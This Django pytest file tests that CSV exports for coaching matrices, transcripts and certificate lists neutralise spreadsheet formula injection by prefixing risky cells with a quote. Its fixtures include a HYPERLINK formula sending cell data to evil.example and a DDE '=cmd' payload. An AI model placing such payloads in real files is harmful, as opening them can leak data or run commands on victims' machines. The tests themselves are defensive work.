"""Every CSV export opens in a spreadsheet without running what someone typed: text that starts
with = + - @, a tab or a carriage return gets a leading single quote (issue 19, item 12)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from coaching import services as coaching
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
TAB_FORMULA = "\t=1+2"
RETURN_FORMULA = "\r=1+2"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_the_coach_matrix_csv_quotes_formulas_in_names_and_emails(client, course):
    coach = factories.coach()
    teachers = [
        factories.teacher(full_name=HYPERLINK, email="=1+2@example.org"),
        factories.teacher(full_name=TAB_FORMULA, email="-3+4@example.org"),
        factories.teacher(full_name=RETURN_FORMULA, email="+5@example.org"),
        factories.teacher(full_name="Maya Chen", email="maya@example.org"),
    ]
    cohort = factories.cohort(coaches=[coach], members=teachers)
    due = datetime.date.today() + datetime.timedelta(days=7)
    assignment = coaching.assign_course(cohort=cohort, course=course, due_on=due, assigned_by=coach)
    client.force_login(coach)
    rows = rows_of(client.get(reverse("coaching:matrix_csv", args=[cohort.pk, assignment.pk])))
    people = {(row[0], row[1]) for row in rows[1:]}
    assert people == {
        ("'" + HYPERLINK, "'=1+2@example.org"),
        ("'" + TAB_FORMULA, "'-3+4@example.org"),
        ("'" + RETURN_FORMULA, "'+5@example.org"),
        ("Maya Chen", "maya@example.org"),
    }
    percent = rows[0].index("Percent")
    assert {row[percent] for row in rows[1:]} == {"0"}  # numbers stay numbers


def test_the_transcript_csv_quotes_formulas_in_every_text_cell(client, catalogue):
    course = factories.course_with_modules(catalogue, modules=1, slug="formula")
    course.title = TAB_FORMULA
    course.credit_type = factories.credit_type(name="=cmd|' /C calc'!A0", unit="@hours")
    course.credit_hours = 2
    course.save()
    teacher = factories.teacher(full_name=HYPERLINK, email="=1+2@example.org")
    certificate = factories.certificate(course, user=teacher)
    client.force_login(teacher)
    rows = rows_of(client.get(reverse("certificates:transcript_csv")))
    assert rows[1][:4] == ["'" + TAB_FORMULA, "2.00", "'@hours", "'=cmd|' /C calc'!A0"]
    assert rows[1][6] == certificate.code
    assert rows[-1][:3] == ["Total: =cmd|' /C calc'!A0", "2.00", "'@hours"]


def test_the_pd_admin_certificate_csv_quotes_formulas_in_names_and_emails(client, catalogue):
    course = factories.course_with_modules(catalogue, modules=1, slug="admin-formula")
    course.credit_type = factories.credit_type()
    course.save()
    factories.certificate(
        course, user=factories.teacher(full_name=HYPERLINK, email="=1+2@example.org")
    )
    client.force_login(factories.pd_admin())
    rows = rows_of(client.get(reverse("certificates_admin:csv")))
    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    assert row["Name as printed"] == "'" + HYPERLINK
    assert row["Email"] == "'=1+2@example.org"
